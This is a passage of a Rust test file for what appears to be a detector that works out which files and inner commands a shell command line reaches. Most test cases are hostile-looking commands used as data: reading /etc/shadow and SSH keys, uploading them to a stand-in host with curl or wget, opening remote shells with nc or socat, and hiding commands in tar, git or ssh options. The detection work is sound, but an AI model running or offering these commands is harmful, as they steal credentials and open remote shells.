//! Command lines and what they mean, in a short notation.
//!
//! Input: words with `'…'`; unquoted `*`, `?`, `[`, `]` are active, `…` is a hole. Output: `read`,
//! `walk`, `search` and `list` with a path and, in parentheses, a name; `run` with an inner
//! command; `sh` with a script and `$0 …`; `code` with a language. `-` is nothing.

use super::*;

/// The words of a test's command line.
fn words(line: &str) -> Vec<Text> {
    let mut words = Vec::new();
    let mut word: Option<Text> = None;
    let mut quoted = false;
    for character in line.chars() {
        match character {
            '\'' => {
                quoted = !quoted;
                word.get_or_insert_default();
            }
            ' ' if !quoted => words.extend(word.take().map(single_bracket)),
            '…' => word.get_or_insert_default().push_hole(),
            '*' | '?' | '[' | ']' if !quoted => word.get_or_insert_default().push_active(character),
            _ => word.get_or_insert_default().push(character),
        }
    }
    words.extend(word.map(single_bracket));
    words
}

/// A bracket that stands alone is no pattern.
fn single_bracket(word: Text) -> Text {
    if matches!(word.as_str(), "[" | "]") { word.quoted() } else { word }
}

fn show(text: &Text) -> String {
    let shown = text.to_string();
    let plain = !shown.is_empty() && !shown.contains([' ', '\n']);
    if plain { shown } else { format!("'{shown}'") }
}

fn show_all(texts: &[Text]) -> String {
    texts.iter().map(|text| format!(" {}", show(text))).collect()
}

fn show_operands(operands: &[Operand]) -> String {
    let shown = operands.iter().map(|operand| {
        let verb = match operand.reach {
            Reach::Named => "read",
            Reach::Walked => "walk",
            Reach::Searched => "search",
            Reach::Listed => "list",
        };
        let name = operand.name.as_ref().map(|name| format!(" ({name})")).unwrap_or_default();
        format!("{verb} {}{name}", show(&operand.path))
    });
    let shown = shown.collect::<Vec<_>>().join(", ");
    if shown.is_empty() { "-".to_owned() } else { shown }
}

fn describe(program: &Program) -> String {
    match program {
        Program::Files { operands } => show_operands(operands),
        Program::ShellText { script, positional } => {
            format!("sh {}{}", show(script), show_all(positional))
        }
        Program::ShellStdin { positional } => format!("sh stdin{}", show_all(positional)),
        Program::ShellFile { file, positional } => {
            format!("sh file {}{}", show(file), show_all(positional))
        }
        Program::Foreign { language, code, arguments } => {
            format!("code {language:?} {}{}", show(code), show_all(arguments))
        }
        Program::ForeignStdin { language, arguments } => {
            format!("code {language:?} stdin{}", show_all(arguments))
        }
        Program::ForeignFile { language, file, arguments } => {
            format!("code {language:?} file {}{}", show(file), show_all(arguments))
        }
        Program::Wrapper(wrapper) => {
            let mut shown = "run".to_owned();
            for (name, value) in &wrapper.assignments {
                shown += &format!(" {name}={value}");
            }
            shown += &show_all(&wrapper.argv);
            if let Some(directory) = &wrapper.directory {
                shown += &format!(" in {directory}");
            }
            match &wrapper.input {
                WrapperInput::None => {}
                WrapperInput::Found => shown += " on found",
                WrapperInput::Arguments { replace, one_each, from, file } => {
                    shown += if *one_each { " on each" } else { " on all" };
                    shown += &match from {
                        Separator::Blank => " blank".to_owned(),
                        Separator::Line => " line".to_owned(),
                        Separator::Nul => " nul".to_owned(),
                        Separator::Character(character) => format!(" {character:?}"),
                    };
                    shown += &replace.as_ref().map(|r| format!(" as {r}")).unwrap_or_default();
                    shown += &file.as_ref().map(|f| format!(" from {f}")).unwrap_or_default();
                }
            }
            if !wrapper.operands.is_empty() {
                shown += &format!("; {}", show_operands(&wrapper.operands));
            }
            shown
        }
    }
}

/// Each case is `COMMAND => MEANING`.
fn check(cases: &[&str]) {
    let mut wrong = String::new();
    for case in cases {
        let (line, expected) = case.split_once(" => ").expect("a case has two sides");
        let found = describe(&classify(&words(line)).program);
        if found != expected {
            wrong += &format!("{line}\n  expected {expected}\n  found    {found}\n");
        }
    }
    assert!(wrong.is_empty(), "\n{wrong}");
}

#[test]
fn readers_open_their_operands() {
    check(&[
        "cat /etc/shadow => read /etc/shadow",
        "/bin/cat shadow => read shadow",
        "cat -n -- -x /etc/passwd => read -x, read /etc/passwd",
        "cat - => -",
        "cat /etc/sh* => read /etc/sh*",
        "cat … => read …",
        "tac /etc/shadow => read /etc/shadow",
        "head -n 5 /etc/shadow => read /etc/shadow",
        "head -n5 /etc/shadow => read /etc/shadow",
        "head --lines=5 /etc/shadow => read /etc/shadow",
        "tail -c +1 /etc/shadow => read /etc/shadow",
        "tail -f /var/log/x => read /var/log/x",
        "base64 -w 0 /etc/shadow => read /etc/shadow",
        "base64 -w0 /etc/shadow => read /etc/shadow",
        "od -A n -t x1 /etc/shadow => read /etc/shadow",
        "xxd -p /etc/shadow => read /etc/shadow",
        "hexdump -C /etc/shadow => read /etc/shadow",
        "strings -n 3 /etc/shadow => read /etc/shadow",
        "sort -k 2 -o /tmp/o /etc/shadow => read /tmp/o, read /etc/shadow",
        "cut -d : -f 1 /etc/passwd => read /etc/passwd",
        "cut -d: -f1 /etc/passwd => read /etc/passwd",
        "paste -d, /etc/passwd /etc/shadow => read /etc/passwd, read /etc/shadow",
        "rev /etc/shadow => read /etc/shadow",
        "wc -l /etc/shadow => read /etc/shadow",
        "wc --files0-from=/tmp/l => run cat on all nul from /tmp/l; read /tmp/l",
        "wc --files0-from=- => run cat on all nul",
        "md5sum /etc/shadow => read /etc/shadow",
        "less +F /etc/shadow => read +F, read /etc/shadow",
        "tee /tmp/x => read /tmp/x",
        "diff /etc/passwd /etc/shadow => read /etc/passwd, read /etc/shadow",
        "diff -r /etc /tmp/etc => walk /etc, walk /tmp/etc",
        "vi /etc/shadow => read /etc/shadow",
        "vim -c ':r /etc/shadow' => read /etc/shadow",
        "vim -es -c ':!cat /etc/shadow' => sh 'cat /etc/shadow' sh",
        "nano /etc/sudoers => read /etc/sudoers",
        "split --filter='cat' /etc/shadow => run sh -c cat; read /etc/shadow",
        "zcat /backup/shadow.gz => read /backup/shadow.gz",
        "gzip -c /etc/shadow => read /etc/shadow",
        "gzip -r /etc => walk /etc",
        "unshadow /etc/passwd /etc/shadow => read /etc/passwd, read /etc/shadow",
        "xmllint --xpath //a f.xml => read f.xml",
        "gcc -x c -E /etc/shadow => read /etc/shadow",
        "gcc @/etc/shadow => read @/etc/shadow, read /etc/shadow",
        "date -f /etc/shadow => read /etc/shadow",
        "date --file=/etc/shadow => read /etc/shadow",
        "date +%s => -",
        "ssh-keygen -y -f /root/.ssh/id_rsa => read /root/.ssh/id_rsa",
        "openssl base64 -in /etc/shadow => read /etc/shadow",
        "openssl enc -base64 -in shadow => read shadow",
        "sqlite3 /var/db.sqlite => read /var/db.sqlite",
        "getent shadow => read /etc/shadow",
        "getent passwd root => read /etc/passwd",
        "getent hosts x => read /etc/hosts",
        "getent ahosts x => -",
    ]);
}

#[test]
fn the_first_operand_of_a_filter_is_no_path() {
    check(&[
        "grep root /etc/shadow => read /etc/shadow",
        "grep -e root /etc/shadow => read /etc/shadow",
        "grep -eroot /etc/shadow => read /etc/shadow",
        "grep -f /tmp/p /etc/shadow => read /tmp/p, read /etc/shadow",
        "grep -f /etc/shadow => read /etc/shadow",
        "grep --file=/etc/shadow x => read /etc/shadow, read x",
        "grep -A 3 x /etc/shadow => read /etc/shadow",
        "grep /etc/shadow => -",
        "grep -r token /var/run/secrets => walk /var/run/secrets",
        "grep -rn . /etc => walk /etc",
        "grep token /var/run/secrets -R => walk /var/run/secrets",
        "grep --recursive x /etc => walk /etc",
        "grep --recurs x /etc => walk /etc",
        "grep -r x => walk .",
        "grep -r --include='sh*' x /etc => walk /etc (sh*)",
        "grep -r --include=*.key --include token x /etc => walk /etc (*.key), walk /etc (token)",
        "egrep -ri pass /home => walk /home",
        "rg token => walk .",
        "rg token /var/run => walk /var/run",
        "rg -g '!x' -g '*.pem' token / => walk / (*.pem)",
        "rg --files /etc => walk /etc",
        "sed -n p /etc/shadow => read /etc/shadow",
        "sed -e p -e q /etc/shadow => read /etc/shadow",
        "sed --expression=p /etc/shadow => read /etc/shadow",
        "sed -i s/a/b/ f.conf => read f.conf",
        "sed -i.bak s/a/b/ f.conf => read f.conf",
        "sed 's/.key/x/' f => read f",
        "sed 'r /etc/shadow' x => read /etc/shadow, read x",
        "sed '1R /etc/shadow' x => read /etc/shadow, read x",
        "sed '1e cat /etc/shadow' x => run sh -c 'cat /etc/shadow\n'; read x",
        "sed -f /tmp/s x => read /tmp/s, read x",
        "jq .keys /app/x.json => read /app/x.json",
        "jq .keys => -",
        "jq -R . /etc/shadow => read /etc/shadow",
        "jq -n --rawfile a /etc/shadow '$a' => read /etc/shadow",
        "jq --slurp . /etc/shadow => read /etc/shadow",
        "jq -n --arg a b '.x' f => read f",
        "jq -f /tmp/f.jq x => read /tmp/f.jq, read x",
        "yq eval .a.key /app/x.yaml => read /app/x.yaml",
        "yq .a.key /app/x.yaml => read /app/x.yaml",
        "chmod 600 /root/.ssh => list /root/.ssh",
    ]);
}

#[test]
fn names_are_listed_or_searched_without_being_read() {
    check(&[
        "ls => list .",
        "ls -la /root/.ssh => list /root/.ssh",
        "ls -R /root => search /root",
        "ls -laR /root => search /root",
        "ls --recursive /root => search /root",
        "ls --color=auto /etc => list /etc",
        "dir /etc => list /etc",
        "tree /etc => search /etc",
        "tree -L 2 => search .",
        "du -sh /etc => search /etc",
        "du => search .",
        "stat -c %s /etc/shadow => list /etc/shadow",
        "file /etc/shadow => list /etc/shadow",
        "file -f /etc/shadow => read /etc/shadow",
        "readlink -f /etc/x => list /etc/x",
        "test -f /etc/shadow => list /etc/shadow",
        "[ -e shadow ] => list shadow",
        "[ x = y ] => -",
        "[ /etc/a -nt b ] => list /etc/a, list b",
        "echo /etc/* => list /etc/*",
        "echo /etc/shadow => -",
        "printf '%s\n' /etc/sh?dow => list /etc/sh?dow",
        "mkdir -p /etc/kubernetes => list /etc/kubernetes",
        "touch -r /etc/passwd x => list x",
        "rm -rf /tmp/x => list /tmp/x",
        "chown -R app:app /app => search /app",
        "df -h => -",
        "locate shadow => search / (*shadow*)",
        "locate '*.pem' => search / (*.pem)",
        "which cat => -",
    ]);
}

#[test]
fn archives_read_whole_trees() {
    check(&[
        "tar czf - /etc => walk /etc",
        "tar cf - /etc => walk /etc",
        "tar -cf - /etc => walk /etc",
        "tar -c -f - /etc => walk /etc",
        "tar -cf- /etc => walk /etc",
        "tar c /etc => walk /etc",
        "tar cfz out /etc => read out, walk /etc",
        "tar cbf 20 out /etc => read out, walk /etc",
        "tar --create --file=out.tar /etc => read out.tar, walk /etc",
        "tar --create --file out.tar /etc => read out.tar, walk /etc",
        "tar /etc -c => walk /etc",
        "tar -C /etc -c . => walk /etc",
        "tar -C /etc -cf - shadow => walk /etc/shadow",
        "tar c -C / etc -C var log => walk /etc, walk /var/log",
        "tar cC /etc shadow => walk /etc/shadow",
        "tar c --directory=/etc shadow => walk /etc/shadow",
        "tar c --direc=/etc shadow => walk /etc/shadow",
        "tar c --exclude x /etc => walk /etc",
        "tar c -T /tmp/list => run tar -c on all line from /tmp/list; read /tmp/list",
        "tar c -C /etc -T - => run tar -c -C /etc on all line",
        "tar cT /etc/shadow => run tar -c on all line from /etc/shadow; read /etc/shadow",
        "tar c --null --files-from=- => run tar -c on all nul",
        "tar xzf /backup.tgz etc/shadow => read /backup.tgz",
        "tar --list --file x.tar => read x.tar",
        "tar tf x.tar => read x.tar",
        "tar xf - -C /etc => -",
        "tar rf x.tar /etc => read x.tar, walk /etc",
        "tar cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec='cat /etc/shadow' \
         => run sh -c 'cat /etc/shadow'; read /dev/null, walk /dev/null",
        "tar xf x.tar -I 'sh -c id' => run sh -c 'sh -c id'; read x.tar",
        "tar xf x.tar --to-command='cat' => run sh -c cat; read x.tar",
        "zip -r - /etc => walk /etc",
        "zip out.zip /etc/shadow => read out.zip, read /etc/shadow",
        "zip -r out.zip /app -x '*.key' => read out.zip, walk /app",
        "zip - -@ => run cat on all line",
        "zip x.zip f -T -TT 'sh #' => run sh -c 'sh #'; read x.zip, read f",
        "7z a out.7z /etc => read out.7z, walk /etc",
        "7z a out.7z @/etc/shadow => read out.7z, read /etc/shadow",
        "7z x out.7z => read out.7z",
        "cpio -o => run cat on all line",
        "cpio -0o -D /etc => run cat in /etc on all nul",
        "cpio -i => -",
        "pax -w /etc => walk /etc",
        "ar r /tmp/x.a /etc/shadow => read /tmp/x.a, read /etc/shadow",
    ]);
}

#[test]
fn copies_read_their_sources() {
    check(&[
        "cp /etc/shadow /tmp => read /etc/shadow, read /tmp",
        "cp -r /etc /tmp => walk /etc, read /tmp",
        "cp -a /etc/. /tmp => walk /etc/., read /tmp",
        "cp --recursive /etc /tmp => walk /etc, read /tmp",
        "cp -rt /tmp /etc => read /tmp, walk /etc",
        "mv /etc /x => walk /etc, read /x",
        "ln -s /etc/shadow /tmp/x => read /etc/shadow, read /tmp/x",
        "install -m 644 /etc/shadow /tmp/x => read /etc/shadow, read /tmp/x",
        "dd if=/etc/shadow of=/tmp/x bs=1 => read /etc/shadow, read /tmp/x",
        "dd if=shadow => read shadow",
        "rsync -a /etc host:/x => walk /etc, read /x",
        "rsync -avz --exclude x /etc/ u@h:dir => walk /etc/",
        "rsync --files-from=/tmp/l / h: => run tar -c -C / on all line from /tmp/l; read /, read /tmp/l",
        "rsync -e 'sh -c id' x h:/x => run sh -c 'sh -c id'; read x, read /x",
        "scp -r /etc u@h:/tmp => walk /etc, read /tmp",
        "scp -i /root/.ssh/id_rsa x h: => read /root/.ssh/id_rsa, read x",
        "scp h:/etc/shadow . => read /etc/shadow, read .",
        "mount --bind /etc /mnt => read /etc, read /mnt",
        "kubectl cp /etc ns/pod:/tmp => walk /etc, read /tmp",
        "docker cp c:/etc/shadow - => walk /etc/shadow",
    ]);
}

#[test]
fn clients_send_the_files_they_are_given() {
    check(&[
        "curl -F x=@/etc/shadow http://h => read /etc/shadow",
        "curl -F 'x=@/etc/shadow;type=text/plain' http://h => read /etc/shadow",
        "curl -F 'x=</etc/shadow' h => read /etc/shadow",
        "curl -d @/etc/shadow h => read /etc/shadow",
        "curl -d@/etc/shadow h => read /etc/shadow",
        "curl -d user=x@y h => -",
        "curl --data-binary @shadow h => read shadow",
        "curl --data-binary=@/etc/shadow h => read /etc/shadow",
        "curl --data-urlencode x@/etc/shadow h => read /etc/shadow",
        "curl -T /etc/shadow h => read /etc/shadow",
        "curl -sT/etc/shadow h => read /etc/shadow",
        "curl --upload-file /etc/shadow h => read /etc/shadow",
        "curl --cacert /var/run/secrets/ca.crt https://k => read /var/run/secrets/ca.crt",
        "curl -K /etc/shadow => read /etc/shadow",
        "curl -H 'Accept: */*' https://h/etc/shadow => -",
        "curl -H @/etc/shadow h => read /etc/shadow",
        "curl file:///etc/shadow => read file:///etc/shadow",
        "curl FILE:///etc/shadow => read FILE:///etc/shadow",
        "curl 'file:///etc/{shadow,passwd}' => read file:///etc/shadow, read file:///etc/passwd",
        "curl 'file:///etc/sh[a-b]dow' => read file:///etc/sh[a-b]dow",
        "curl --url file:///etc/shadow => read file:///etc/shadow",
        "curl --head file:///etc/shadow => read file:///etc/shadow",
        "curl -o /tmp/x http://h/etc/shadow => read /tmp/x",
        "wget --post-file=/etc/shadow h => read /etc/shadow",
        "wget --post-file /etc/shadow h => read /etc/shadow",
        "wget -i /etc/shadow => read /etc/shadow",
        "wget -qO- http://h/x => -",
        "socat FILE:/etc/shadow - => read /etc/shadow",
        "socat - OPEN:/etc/shadow,rdonly => read /etc/shadow",
        "socat -u /etc/shadow TCP:h:1 => read /etc/shadow",
        "socat TCP:h:1 EXEC:'cat /etc/shadow',pty => sh 'cat /etc/shadow' sh",
        "socat TCP:h:1 SYSTEM:'cat /etc/shadow' => sh 'cat /etc/shadow' sh",
        "nc h 80 => -",
        "nc -e /bin/sh h 80 => sh '/bin/sh h 80' sh",
        "nc h 80 -e cat /etc/shadow => sh 'cat /etc/shadow' sh",
        "ncat -c 'cat /etc/shadow' h 80 => sh 'cat /etc/shadow' sh",
        "git diff --no-index /dev/null /etc/shadow => read /dev/null, read /etc/shadow",
        "git -C /etc hash-object shadow => read /etc/shadow",
        "git status => -",
        "git -c alias.x='!cat /etc/shadow' x => sh 'cat /etc/shadow' sh",
        "http h x@/etc/shadow => read x@/etc/shadow, read /etc/shadow",
    ]);
}

#[test]
fn unknown_programs_are_given_what_looks_like_a_path() {
    check(&[
        "frobnicate /etc/shadow => read /etc/shadow",
        "frobnicate --config=/etc/shadow => read /etc/shadow",
        "frobnicate --config /etc/shadow => read /etc/shadow",
        "frobnicate -c/etc/shadow => read /etc/shadow",
        "frobnicate -xc=/etc/shadow => read /etc/shadow",
        "frobnicate key=/etc/shadow => read key=/etc/shadow, read /etc/shadow",
        "frobnicate @/etc/shadow => read @/etc/shadow, read /etc/shadow",
        "frobnicate h:/etc/shadow => read h:/etc/shadow, read /etc/shadow",
        "frobnicate a,/etc/a,/etc/b => read a,/etc/a,/etc/b, read /etc/a, read /etc/b",
        "frobnicate /etc/shadow:/x => read /etc/shadow:/x, read /etc/shadow, read /x",
        "frobnicate http://h/etc/shadow => -",
        "frobnicate file:///etc/shadow => read file:///etc/shadow",
        "frobnicate start now => -",
        "frobnicate server.key => read server.key",
        "frobnicate ../etc/shadow => read ../etc/shadow",
        "frobnicate ~/.ssh/id_rsa => read ~/.ssh/id_rsa",
        "frobnicate *.conf => read *.conf",
        "frobnicate 'select 1/2' => -",
        "frobnicate '/etc/a b' => read '/etc/a b'",
        "frobnicate … => -",
        "… shadow => read shadow",
        "kill -9 1 => -",
        "sleep /etc/shadow => -",
        "nginx -t => -",
        "nginx -c /etc/nginx.conf => read /etc/nginx.conf",
        "redis-cli get key => -",
        "make -C /app test => -",
        "make -f /etc/shadow => read /etc/shadow",
        "ps aux => -",
        " => -",
    ]);
}

#[test]
fn a_program_has_many_names() {
    check(&[
        "/usr/local/bin/gtar c /etc => walk /etc",
        "gsed -n p x => read x",
        "ggrep x f => read f",
        "gcat /etc/shadow => read /etc/shadow",
        "bash-5.1 -c id => sh id bash-5.1",
        "/usr/bin/env cat x => run cat x",
        "/bin/c?t /etc/shadow => read /etc/shadow",
        "/???/c*t shadow => read shadow",
        "/bin/ba?h -c id => sh id /bin/ba?h",
        "/bin/s? -c id => sh id /bin/s?",
        "/bin/b[a]se64 /etc/shadow => read /etc/shadow",
        "/*/zzz?? shadow => read shadow",
        "/proc/self/exe -c id => sh id /proc/self/exe",
        "/proc/…/exe -c id => sh id /proc/…/exe",
        "busybox cat /etc/shadow => run cat /etc/shadow",
        "/bin/busybox sh -c id => run sh -c id",
        "busybox --list => -",
        "busybox => -",
        "busybox-static cat x => run cat x",
        "toybox cat /etc/shadow => run cat /etc/shadow",
        "coreutils --coreutils-prog=cat x => run cat x",
        "/lib64/ld-linux-x86-64.so.2 /bin/cat /etc/shadow => run /bin/cat /etc/shadow",
        "/lib/ld-musl-x86_64.so.1 --library-path /lib /bin/cat x => run /bin/cat x",
        "/lib64/ld-2.31.so cat x => run cat x",
    ]);
    assert_eq!(base_name("/usr/bin/env"), "env");
    assert_eq!(base_name("env"), "env");
    assert!(table::is_sorted_without_doubles());
}

#[test]
fn env_changes_the_environment_of_the_command() {
    check(&[
        "env => -",
        "env A=b => -",
        "env A=b C=/d cat x => run A=b C=/d cat x",
        "env - cat x => run cat x",
        "env -i A=b sh -c id => run A=b sh -c id",
        "env -iu HOME cat x => run HOME= cat x",
        "env -u HOME cat x => run HOME= cat x",
        "env -C /etc cat shadow => run cat shadow in /etc",
        "env --chdir=/etc cat shadow => run cat shadow in /etc",
        "env -S 'cat /etc/shadow' => run env cat /etc/shadow",
        "env '-Scat /etc/shadow' => run env cat /etc/shadow",
        "env '-vScat /etc/shadow' => run env cat /etc/shadow",
        "env '--split-string=cat /etc/shadow' -n => run env cat /etc/shadow -n",
        "env '--split=cat x' => run env cat x",
        r#"env -S 'cat "/etc/sh"adow\_x' => run env cat /etc/shadow x"#,
        r"env -S 'cat \x2f #no' => run env cat x2f",
        "env -S 'cat ${HOME}/x' => run env cat …/x",
        "env -f /etc/shadow cat => run cat; read /etc/shadow",
        "env -- cat x => run cat x",
        "env nice nohup cat x => run cat x",
        "env -C /etc env -C kubernetes cat x => run env -C kubernetes cat x in /etc",
        "env -C /etc find . => run find . in /etc",
    ]);
}

#[test]
fn wrappers_run_what_stands_behind_them() {
    check(&[
        "sudo cat /etc/shadow => run cat /etc/shadow",
        "sudo -u root -E A=1 cat x => run A=1 cat x",
        "sudo -nu root -- cat x => run cat x",
        "sudo --user=root cat x => run cat x",
        "sudo -s => run sh",
        "sudo -i => run sh in /root",
        "sudo -s cat x => run cat x",
        "sudo -e /etc/shadow => read /etc/shadow",
        "sudoedit /etc/shadow => read /etc/shadow",
        "sudo -D /etc cat shadow => run cat shadow in /etc",
        "doas -u root cat x => run cat x",
        "doas -s => run sh",
        "su -c 'cat x' => run sh -c 'cat x'",
        "su - user -c 'cat x' => run sh -c 'cat x'",
        "su - -c 'cat x' => run sh -c 'cat x' in /root",
        "su user -s /bin/bash -c 'cat x' a => run /bin/bash -c 'cat x' a",
        "su --command='cat x' user => run sh -c 'cat x'",
        "su user -- -c 'cat x' => run sh -c 'cat x'",
        "su => run sh",
        "runuser -u app -- cat x => run cat x",
        "runuser - app -c 'cat x' => run sh -c 'cat x'",
        "sg root -c 'cat x' => run sh -c 'cat x'",
        "setpriv --reuid=1 --regid 1 cat x => run cat x",
        "gosu root cat x => run cat x",
        "su-exec root:root cat x => run cat x",
        "chpst -u root -/ /host cat x => run cat x in /host",
        "s6-setuidgid root cat x => run cat x",
        "capsh --print -- -c 'cat x' => run bash -c 'cat x'",
        "nice -n 5 cat x => run cat x",
        "nice -5 cat x => run cat x",
        "nice --adjustment=5 cat x => run cat x",
        "ionice -c2 -n 7 cat x => run cat x",
        "chrt -f 10 cat x => run cat x",
        "taskset -c 0 cat x => run cat x",
        "taskset -p 1 => -",
        "nohup cat x => run cat x",
        "setsid -w cat x => run cat x",
        "stdbuf -o0 -e L cat x => run cat x",
        "unbuffer cat x => run cat x",
        "timeout 5 cat x => run cat x",
        "timeout -k 1 -s KILL 5s cat x => run cat x",
        "timeout --signal=9 5 cat x => run cat x",
        "timeout -t 5 cat x => run cat x",
        "time -f %e -o /tmp/t cat x => run cat x; read /tmp/t",
        "exec cat x => run cat x",
        "exec -a name -cl cat x => run cat x",
        "exec => -",
        "command cat x => run cat x",
        "command -p cat x => run cat x",
        "command -v cat => -",
        "builtin cd /etc => run cd /etc",
        "nsenter -t 1 -m -- sh -c 'cat x' => run sh -c 'cat x' in /",
        "nsenter -t1 -a cat x => run cat x in /",
        "nsenter --target 1 --mount --uts cat x => run cat x in /",
        "nsenter --mount=/proc/1/ns/mnt cat x => run cat x in /; read /proc/1/ns/mnt",
        "nsenter -m/proc/1/ns/mnt cat x => run cat x in /; read /proc/1/ns/mnt",
        "nsenter -t 1 -r -w/etc cat x => run cat x in /etc",
        "nsenter -t 1 -m => run sh in /",
        "unshare -mr cat x => run cat x",
        "unshare -R /host cat x => run cat x in /",
        "unshare --wd=/etc cat shadow => run cat shadow in /etc",
        "chroot /host cat /etc/shadow => run cat /etc/shadow in /",
        "chroot --userspec=0:0 /host sh -c id => run sh -c id in /",
        "chroot /host => run sh in /",
        "flock /tmp/l cat x => run cat x; read /tmp/l",
        "flock -w 5 /tmp/l -c 'cat x' => run sh -c 'cat x'; read /tmp/l",
        "flock /tmp/l --command 'cat x' => run sh -c 'cat x'; read /tmp/l",
        "script -c 'cat x' => run sh -c 'cat x'",
        "script -qc 'cat x' /dev/null => run sh -c 'cat x'; read /dev/null",
        "script -q /dev/null cat x => run cat x; read /dev/null",
        "script => run sh",
        "watch -n 1 cat x => run sh -c 'cat x'",
        "watch -n1 -x cat x => run cat x",
        "watch 'cat x' => run sh -c 'cat x'",
        "strace -f -e open -o /tmp/o cat x => run cat x; read /tmp/o",
        "strace -E A=b cat x => run A=b cat x",
        "ltrace cat x => run cat x",
        "gdb --args cat x => run cat x",
        "gdb -batch -ex 'shell cat x' => run sh -c 'cat x\n'",
        "dumb-init -- cat x => run cat x",
        "tini -g -- cat x => run cat x",
        "tini -s cat x => run cat x",
        "catatonit -- cat x => run cat x",
        "rlwrap cat x => run cat x",
        "winpty cat x => run cat x",
        "start-stop-daemon --start --exec /bin/cat -- /etc/shadow => run /bin/cat /etc/shadow",
        "start-stop-daemon -S -x /bin/cat -d /etc -- shadow => run /bin/cat shadow in /etc",
        "systemd-run --pty -p A=b cat x => run cat x",
        "proot -r /host -w /etc cat shadow => run cat shadow in /etc",
        "fakeroot cat x => run cat x",
        "faketime '2020-01-01' cat x => run cat x",
        "perf stat -e x cat y => run cat y",
        "perf report => -",
        "catchsegv cat x => run cat x",
        "setarch x86_64 -R cat x => run cat x",
        "setarch -R cat x => run cat x",
        "linux64 cat x => run cat x",
        "bwrap --ro-bind /etc /mnt --chdir /mnt cat shadow => run cat shadow in /mnt; read /etc",
        "ip netns exec ns cat x => run cat x",
        "ip addr => -",
        "tmux new -d 'cat x' => run sh -c 'cat x'",
        "xvfb-run -a cat x => run cat x",
        "hyperfine 'cat x' => run sh -c 'cat x'",
        "nohup setsid nice -n 1 sh -c id => run sh -c id",
        "nohup => -",
    ]);
}

#[test]
fn commands_go_to_other_containers_and_hosts() {
    check(&[
        "ssh h cat /etc/shadow => run sh -c 'cat /etc/shadow'",
        "ssh -p 22 -i /root/.ssh/id_rsa u@h 'cat x' => run sh -c 'cat x'; read /root/.ssh/id_rsa",
        "ssh h -p 22 cat x => run sh -c 'cat x'",
        "ssh h => -",
        "ssh -o ProxyCommand='cat x' h => run sh -c 'cat x'",
        "ssh -oIdentityFile=/etc/k h => read /etc/k",
        "sshpass -p x ssh h id => run sh -c id",
        "kubectl exec p -- cat x => run cat x",
        "kubectl exec -it -n ns p -c c -- sh -c 'cat x' => run sh -c 'cat x'",
        "kubectl exec p cat x => run cat x",
        "kubectl --kubeconfig=/etc/k exec p -- cat x => run cat x; read /etc/k",
        "kubectl run p --image=i -- cat x => run cat x",
        "kubectl get secrets => -",
        "kubectl apply -f /etc/kubernetes/x.yaml => read /etc/kubernetes/x.yaml",
        "kubectl create secret generic s --from-file=k=/etc/shadow => read /etc/shadow",
        "docker exec -it -u 0 c cat x => run cat x",
        "docker run --rm -v /etc:/mnt:ro alpine cat /mnt/shadow => run cat /mnt/shadow; read /etc",
        "docker run --mount type=bind,source=/etc,target=/x i cat y => run cat y; read /etc",
        "docker run --entrypoint cat i x => run cat x",
        "docker ps => -",
        "crictl exec -it c cat x => run cat x",
        "nerdctl -n k8s.io exec c cat x => run cat x",
        "ctr -n k8s.io run --rm --mount type=bind,src=/,dst=/h i c sh => run sh; read /",
        "ctr -n k8s.io task exec --exec-id x c cat y => run cat y",
        "lxc exec c -- cat x => run cat x",
    ]);
}

#[test]
fn xargs_adds_words_to_a_command() {
    check(&[
        "xargs cat => run cat on all blank",
        "xargs => run echo on all blank",
        "xargs -0 cat => run cat on all nul",
        "xargs -n1 cat => run cat on each blank",
        "xargs -n 2 cat => run cat on all blank",
        "xargs -L1 cat => run cat on each blank",
        "xargs -I{} cat /etc/{} => run cat /etc/{} on each line as {}",
        "xargs -I % sh -c 'cat %' => run sh -c 'cat %' on each line as %",
        "xargs -i cat {} => run cat {} on each line as {}",
        "xargs --replace=X cat X => run cat X on each line as X",
        "xargs -d , cat => run cat on all ','",
        r"xargs -d '\n' cat => run cat on all line",
        "xargs -a /tmp/l cat => run cat on all blank from /tmp/l; read /tmp/l",
        "xargs --arg-file=/tmp/l -r -P 4 cat => run cat on all blank from /tmp/l; read /tmp/l",
        "nohup xargs cat => run cat on all blank",
        "parallel cat ::: /etc/shadow /etc/passwd => run cat /etc/shadow /etc/passwd",
        "parallel -j 4 cat {} ::: /etc/shadow => run cat /etc/shadow",
        "parallel 'cat {} | x' ::: /etc/shadow => run sh -c 'cat /etc/shadow | x\n'",
        "parallel cat {1}/{2} ::: /etc ::: shadow passwd => run cat /etc/shadow /etc/passwd",
        "parallel ::: 'cat x' => run sh -c 'cat x\n'",
        "parallel cat => run cat {} on each line as {}",
        "parallel 'cat {}' => run sh -c 'cat {}' on each line as {}",
        "parallel -a /tmp/l cat => run cat {} on each line as {} from /tmp/l; read /tmp/l",
    ]);
}

#[test]
fn find_searches_and_runs_commands_on_what_it_finds() {
    check(&[
        "find => search .",
        "find / => search /",
        "find /etc /root -type f => search /etc, search /root",
        "find / -name shadow => search / (shadow)",
        "find / -iname '*shad*' => search / (*shad*)",
        "find -L / -name a -o -name b => search / (a), search / (b)",
        "find / ! -name a -name b => search / (b)",
        "find / -not -name a => search /",
        "find /etc -name zz -o -type f => search /etc",
        "find / ( -name a -o -name b ) -type f => search / (a), search / (b)",
        "find / ( -type f -o -type l ) -name a => search / (a)",
        "find / -path /proc -prune -o -name a -print => search / (a)",
        "find / ( -path /proc -o -path /sys ) -prune -o -name a => search / (a)",
        "find / -path '*/.ssh/id_rsa' => search /.ssh (id_rsa), search /*/.ssh (id_rsa), \
         search /*/*/.ssh (id_rsa)",
        "find / -path '/etc/sh*' => search /etc (sh*)",
        "find / -path '/etc/*' => search /etc",
        "find / -wholename '*/shadow' => search / (shadow)",
        "find / -path '/etc*shadow' => search / (*shadow), search / (etc*shadow)",
        "find . -path './etc/shadow' => search ./etc (shadow)",
        "find / -regex '.*/sha.ow' => search / (sha?ow)",
        r"find / -regex '.*\.pem' => search / (*.pem)",
        "find / -regex '.*/sh[ab]+dow' => search / (*dow), search / (sh*dow)",
        "find /etc -maxdepth 1 => list /etc",
        "find / -newer /etc/shadow => read /etc/shadow, search /",
        "find / -newermt 2020 => read 2020, search /",
        "find /etc -fprint /tmp/x => read /tmp/x, search /etc",
        "find /tmp -delete => search /tmp",
        "find /etc -exec cat {} ; => run cat {} on found; walk /etc",
        "find /etc -name shadow -exec cat {} + => run cat {} on found; walk /etc (shadow)",
        "find /etc -type f -execdir sh -c 'cat $1' _ {} ; => run sh -c 'cat $1' _ {} on found; \
